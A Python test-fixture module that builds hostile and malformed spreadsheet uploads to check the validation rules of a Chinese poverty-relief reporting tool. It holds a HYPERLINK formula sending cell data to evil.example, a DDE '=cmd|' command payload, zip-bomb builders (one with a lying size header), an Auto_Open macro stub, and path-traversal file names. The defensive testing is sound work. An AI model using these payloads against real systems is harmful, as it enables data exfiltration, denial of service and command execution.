"""Hostile and broken files for the reliability tests: each one with the rule that must refuse (or accept) it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import xlsxwriter
from openpyxl import load_workbook

from config import Config, Unit
from fupin.demo import labor as demo_labor
from fupin.demo.reports import REMARK, value_column, write_filled_report
from tasks.report.templates import FIRST_DATA_ROW, header_texts

MONTH = "2020-09"
HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
BOMB_BYTES = 1100 << 20


@dataclass(frozen=True)
class BadFile:
    """One generated file: what it is, and the refusal rule expected (None: accepted, values only)."""

    name: str
    what: str
    rule: str | None
    kind: str = "report"


def _unit(cfg: Config, form_code: str) -> Unit:
    return next(u for u in cfg.units if u.form_code == form_code)


def good_report(cfg: Config, path: Path, form_code: str = "表1", month: str = MONTH, **quirks: Any) -> Path:
    """A valid filled report for the first unit of `form_code`."""
    return write_filled_report(cfg, _unit(cfg, form_code), month, path, **quirks)


def _zip_entry(name: str, raw: bytes) -> tuple[bytes, bytes, int, int]:
    """(name, deflated data, crc, size) of a small honest member."""
    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
    return name.encode(), comp.compress(raw) + comp.flush(), zlib.crc32(raw), len(raw)


def _write_zip(path: Path, entries: list[tuple[bytes, bytes, int, int]]) -> Path:
    """A zip written by hand, so a member's declared size can differ from what its stream inflates to."""
    out, central = io.BytesIO(), []
    for name, data, crc, size in entries:
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), size, len(name), 0))
        out.write(name + data)
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(data),
                size,
                len(name),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + name
        )
    start = out.tell()
    for rec in central:
        out.write(rec)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0))
    path.write_bytes(out.getvalue())
    return path


_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
    b'spreadsheetml/2006/main"><sheetData>'
)


def _bomb_sheet(
    total: int, head: bytes = _SHEET_HEAD, row: bytes = b"<row><c><v>1</v></c></row>"
) -> tuple[bytes, int, int]:
    """Deflate one 1 MB block of `row`s after a full flush and repeat it: the stream stays valid and tiny."""
    block = row * ((1 << 20) // len(row))
    first, repeat = zlib.compressobj(9, zlib.DEFLATED, -15), zlib.compressobj(9, zlib.DEFLATED, -15)
    n = total // len(block) + 1
    crc = zlib.crc32(head)
    for _ in range(n):
        crc = zlib.crc32(block, crc)
    data = (
        first.compress(head)
        + first.flush(zlib.Z_FULL_FLUSH)
        + (repeat.compress(block) + repeat.flush(zlib.Z_FULL_FLUSH)) * n
        + b"\x03\x00"
    )
    return data, crc, len(head) + n * len(block)


_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/'
    b'2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxml'
    b'formats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)
SHEET = "xl/worksheets/sheet1.xml"


def bomb(path: Path, lying: bool = False, total: int = BOMB_BYTES) -> Path:
    """A complete xlsx whose sheet XML inflates past 1 GB; `lying` declares 4 KB in the zip directory instead."""
    buf = io.BytesIO()
    book = xlsxwriter.Workbook(buf, {"in_memory": True})
    book.add_worksheet("人员名单").write_string(0, 0, "x")
    book.close()
    with zipfile.ZipFile(buf) as zf:
        entries = [_zip_entry(i.filename, zf.read(i)) for i in zf.infolist() if i.filename != SHEET]
    data, crc, size = _bomb_sheet(total)
    return _write_zip(path, [*entries, (SHEET.encode(), data, crc, 4096 if lying else size)])


def junk_rows(cfg: Config, path: Path, rows: int = 100_000) -> Path:
    """A form's header followed by `rows` rows of junk, as a clerk's broken export would have."""
    form = cfg.form("表1")
    book = xlsxwriter.Workbook(str(path), {"constant_memory": True})
    ws = book.add_worksheet(form.code)
    ws.write_string(0, 0, cfg.report_title)
    ws.write_row(3, 0, header_texts(cfg, form))
    for r in range(rows):
        ws.write_row(4 + r, 0, [r + 1, "垃圾", f"junk {r}", "个", r])
    book.close()
    return path


_VBA_REL = (
    b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
    b'Target="vbaProject.bin"/>'
)


def macro_workbook(cfg: Config, path: Path) -> Path:
    """A good report saved as .xlsm with a vbaProject part (Auto_Open): its values may be taken, never run."""
    plain = io.BytesIO(good_report(cfg, path.with_suffix(".plain.xlsx")).read_bytes())
    path.with_suffix(".plain.xlsx").unlink()
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "[Content_Types].xml":
                data = data.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                ).replace(
                    b"</Types>",
                    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
            if info.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>", _VBA_REL + b"</Relationships>")
            dst.writestr(info, data)
        dst.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b'Sub Auto_Open()\nShell "calc"\n')
    return path


def encrypted(cfg: Config, path: Path, password: str = "1234") -> Path:
    """A good report with an opening password (ECMA-376 agile encryption), as Excel writes it."""
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = good_report(cfg, path.with_suffix(".plain.xlsx"))
    with open(plain, "rb") as src, open(path, "wb") as dst:
        OOXMLFile(src).encrypt(password, dst)
    plain.unlink()
    return path


def docx(path: Path) -> Path:
    """A minimal Word document renamed .xlsx."""
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("[Content_Types].xml", _CONTENT_TYPES.replace(b"/xl/workbook.xml", b"/word/document.xml"))
        zf.writestr("word/document.xml", '<w:document xmlns:w="urn:w"><w:body>表1</w:body></w:document>'.encode())
    return path


def formula_text(cfg: Config, path: Path) -> Path:
    """A front post's report whose 备注 cells hold formula-looking TEXT (a HYPERLINK and a DDE payload)."""
    unit = _unit(cfg, "表3")
    good_report(cfg, path, "表3")
    wb = load_workbook(path)
    ws = wb[unit.form_code]
    col = value_column(cfg, cfg.form("表3"), REMARK)
    for offset, payload in enumerate((HYPERLINK, DDE)):
        cell = ws.cell(FIRST_DATA_ROW + offset, col)
        cell.value = payload
        cell.data_type = "s"
    wb.save(path)
    return path


def formula_text_in_figure(cfg: Config, path: Path) -> Path:
    """A district's report whose first 合计 figure is the TEXT of a DDE payload: rejected as not a number."""
    good_report(cfg, path)
    wb = load_workbook(path)
    form = cfg.form("表1")
    cell = wb[form.code].cell(FIRST_DATA_ROW, value_column(cfg, form, cfg.total_column))
    cell.value = DDE
    cell.data_type = "s"
    wb.save(path)
    return path


def labor_files(cfg: Config, out: Path, people: int = 400) -> list[BadFile]:
    """The HR export broken four ways: wrong encoding, a missing column, a repeated header, 5% invalid numbers."""
    districts = [u.name for u in cfg.districts][:4]
    frame = demo_labor.generate_labor(cfg, by_district={d: people // 4 for d in districts}, by_paired_county={})
    id_col, name_col = cfg.labor.columns["id_number"][0], cfg.labor.columns["name"][0]
    demo_labor.write_csv(frame, out / "labor_utf16.csv", encoding="utf-16")
    demo_labor.write_csv(frame.drop(columns=[id_col]), out / "labor_missing_column.csv")
    dup = frame.copy()
    dup.insert(len(dup.columns), f"{name_col} ", dup[name_col].iloc[::-1].to_numpy())
    demo_labor.write_csv(dup, out / "labor_duplicate_header.csv")
    bad = frame.copy()
    n = max(1, len(bad) // 20)
    bad.loc[bad.index[:n], id_col] = bad[id_col].iloc[:n].str[:17] + "Z"
    demo_labor.write_csv(bad, out / "labor_invalid_ids_5pct.csv")
    return [
        BadFile("labor_utf16.csv", "CSV in UTF-16 (neither UTF-8 nor GB18030)", "encoding", "labor"),
        BadFile("labor_missing_column.csv", "CSV without the identity-number column", "missing_column", "labor"),
        BadFile("labor_duplicate_header.csv", "CSV whose header repeats 姓名", "duplicate_header", "labor"),
        BadFile("labor_invalid_ids_5pct.csv", "5% of identity numbers invalid", "invalid_ids", "labor"),
    ]


HOSTILE_NAMES = (
    "..%2F..%2Fetc%2Fpasswd.xlsx",
    "..报表.xlsx",
    "朝阳区 2020年9月　报表（最终版）.xlsx",
    "很长的文件名" * 13 + ".xlsx",
)


def make_all(cfg: Config, out: Path, with_bombs: bool = True) -> list[BadFile]:
    """Write every hostile or broken file into `out`; return what each is and the rule expected to refuse it."""
    out.mkdir(parents=True, exist_ok=True)
    files = []
    (out / "empty.xlsx").write_bytes(b"")
    files.append(BadFile("empty.xlsx", "zero bytes", "empty_file"))
    good = good_report(cfg, out / "good.xlsx").read_bytes()
    (out / "truncated.xlsx").write_bytes(good[: len(good) // 2])
    files.append(BadFile("truncated.xlsx", "upload cut in half", "damaged_zip"))
    docx(out / "renamed_docx.xlsx")
    files.append(BadFile("renamed_docx.xlsx", "a Word document renamed .xlsx", "not_a_workbook"))
    (out / "renamed_pdf.xlsx").write_bytes(b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")
    files.append(BadFile("renamed_pdf.xlsx", "a PDF renamed .xlsx", "not_a_workbook"))
    encrypted(cfg, out / "encrypted.xlsx")
    files.append(BadFile("encrypted.xlsx", "password-protected workbook", "encrypted"))
    macro_workbook(cfg, out / "macros.xlsm")
    files.append(BadFile("macros.xlsm", ".xlsm with a vbaProject (Auto_Open)", None))
    if with_bombs:
        bomb(out / "bomb.xlsx")
        files.append(BadFile("bomb.xlsx", "sheet XML inflating to 1.1 GB", "uncompressed_size"))
        bomb(out / "bomb_lying.xlsx", lying=True)
        files.append(BadFile("bomb_lying.xlsx", "1.1 GB sheet whose directory declares 4 KB", "size_mismatch"))
    junk_rows(cfg, out / "junk_100k_rows.xlsx")
    files.append(BadFile("junk_100k_rows.xlsx", "100,000 junk rows", "too_many_rows"))
    bureau, district = _unit(cfg, "表2"), _unit(cfg, "表1")
    write_filled_report(cfg, bureau, MONTH, out / "wrong_form.xlsx", unit_text=district.name, no_marker=True)
    files.append(BadFile("wrong_form.xlsx", f"{district.name} sending 表2", "wrong_form"))
    good_report(cfg, out / "future_month.xlsx", month="2099-09")
    files.append(BadFile("future_month.xlsx", "a month in the future", "month_out_of_range"))
    good_report(cfg, out / "unknown_unit.xlsx", unit_text="火星区扶贫办", no_marker=True)
    files.append(BadFile("unknown_unit.xlsx", "a unit nobody declared", "unknown_unit"))
    formula_text(cfg, out / "formula_text.xlsx")
    files.append(BadFile("formula_text.xlsx", "=HYPERLINK / =cmd| typed as text in 备注", None))
    from fupin.demo import bad_files_parse  # it builds on good_report above

    files += bad_files_parse.make_all(cfg, out, with_bombs)
    for name in HOSTILE_NAMES:
        (out / name).write_bytes(good)
        files.append(BadFile(name, "a good file with a hostile name", None))
    from fupin.demo.bad_files_bounds import bounds_files
    from fupin.demo.bad_files_labor import hostile_files  # it builds on BadFile, defined here

    return files + labor_files(cfg, out) + hostile_files(cfg, out) + bounds_files(cfg, out)
